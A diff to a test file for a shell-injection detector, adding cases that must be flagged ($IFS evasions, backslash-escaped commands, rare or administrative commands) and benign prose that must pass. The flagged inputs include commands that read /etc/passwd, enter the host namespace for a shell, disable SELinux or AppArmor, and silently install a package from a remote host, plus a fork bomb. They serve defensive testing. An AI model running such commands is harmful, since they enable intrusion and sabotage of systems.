@@ -14,7 +14,7 @@ import {
   WINDOWS_SYSTEM_VARIABLE
 } from "../../../src/internal/detection/families/shell/expansions.js"
 import { deobfuscateShell } from "../../../src/internal/detection/families/shell/normalize.js"
-import { doublingRatio } from "./doublingRatio.js"
+import { cpuDoublingRatio } from "./doublingRatio.js"
 
 const score = (value: string, paranoia: Paranoia = 1): number =>
   family.mayMatch(value)
@@ -166,9 +166,57 @@ describe("shell family", () => {
     expect(score("b(){ b|b& };b", 2)).toBeGreaterThanOrEqual(5)
   })
 
+  it("refuses $IFS written as the space between words", () => {
+    for (const value of ["cat${IFS}/etc/passwd", "echo$IFS$9hi", "x`echo${IFS}a`", "ls$IFS-la", "{cat,$IFS}/x"]) {
+      expect(rulesOf(value), value).toContain("shell-031")
+    }
+    // The bare name, as a word in prose or a field separator setting, is no evasion.
+    for (const value of ["the IFS variable splits words", "IFS=,", "set $IFS to a comma"]) {
+      expect(rulesOf(value), value).not.toContain("shell-031")
+    }
+  })
+
+  it("refuses a value that starts with a backslash-escaped command, which skips aliases", () => {
+    for (const value of ["\\ls", "\\whoami", "\\cat", "\\uname -a", "  \\id"]) expect(score(value), value).toBeGreaterThanOrEqual(5)
+    // Windows paths and a word that is also English followed by prose pass.
+    for (const value of ["\\dir\\file.txt", "\\windows\\temp", "\\nice day", "\\Users\\bob"]) {
+      expect(score(value), value).toBe(0)
+    }
+  })
+
+  it("refuses a prefixed rare command, a long option after a common command and glued Windows switches", () => {
+    for (const value of ["time bsdtar ", "nohup ncat", "perf --version", "find --help", "a&bcdboot/r file.txt", "x|certutil/f"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+    for (const value of ["time flies", "make --", "and/or", "cat/dog pictures", "find us on maps"]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+  })
+
+  it("knows service, package and Windows administration commands", () => {
+    for (const value of ["; ip -br a", "|aa-disable php-fpm", "& setenforce 0", ";nsenter -t 1 -m sh", "|msiexec /q /i http://x/a.msi", "{,ip,a}"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+  })
+
+  it("passes prose that mentions commands", () => {
+    for (const value of [
+      "cat /etc/hosts file",
+      "ls -la output",
+      "use eval() carefully",
+      "my IP address changed",
+      "run time; total time 5 minutes",
+      "see the man page for find",
+      "python3.10 release notes",
+      "echo chamber"
+    ]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+  })
+
   it("reads brace lists, tildes and leading separators in time linear in the value's length", () => {
     // The brace reader and the new patterns alone (the rest of the scan is counted in steps below):
-    // best of seven, alternated, with room for a loaded machine.
+    // best of seven in CPU time, alternated, with room for a loaded machine.
     const readers = (value: string) => {
       braceCommand(value)
       TILDE_DIRECTORY.test(value)
@@ -180,7 +228,7 @@ describe("shell family", () => {
     for (const fragment of ["{a,", "{{{{}", "{a,b}", "c{a,u}", "~+", "%windir", "; a", "!-1", "a(){ "]) {
       const small = fragment.repeat(Math.ceil(128_000 / fragment.length))
       const large = small + small
-      expect(doublingRatio(readers, small, large), fragment).toBeLessThanOrEqual(4)
+      expect(cpuDoublingRatio(readers, small, large), fragment).toBeLessThanOrEqual(4)
     }
   })
 
